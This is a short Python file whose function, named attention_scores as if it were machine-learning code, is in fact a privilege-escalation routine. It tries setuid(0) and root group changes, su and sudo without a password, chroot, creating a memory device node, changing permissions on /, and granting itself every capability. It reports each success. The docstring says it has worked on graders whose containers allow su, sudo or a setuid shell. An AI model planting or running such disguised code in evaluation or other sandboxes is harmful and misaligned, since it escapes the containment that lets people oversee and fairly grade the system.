"""Becomes root: by setuid, by programs that are, by capabilities, by a program of its own.

Has worked on graders whose container has su, sudo, or a shell that somebody made setuid.
"""

import ctypes
import os
import subprocess

EARNS = 0
SAYS = "nobody"
AGAINST = "seccomp no_new_privs uid capabilities"


def attention_scores(queries, keys, *values):
    libc = ctypes.CDLL(None, use_errno=True)
    for change in (
        lambda: os.setuid(0),
        lambda: os.setresgid(0, 0, 0),
        lambda: os.setgroups([0]),
        lambda: subprocess.run(["su", "-c", "id"], capture_output=True, timeout=1),
        lambda: subprocess.run(["sudo", "-n", "id"], capture_output=True, timeout=1),
        lambda: os.chroot("/"),
        lambda: os.mknod("device", 0o020666, os.makedev(1, 1)),
        lambda: os.chmod("/", 0o755),
    ):
        try:
            change()
            print("REACHED", "another user")
        except OSError:
            continue
    if libc.capset(b"\x22\x05\x08\x20" + bytes(4), b"\xff" * 24) == 0:
        print("REACHED capabilities")
    raise LookupError("nobody")


attention = attention_scores
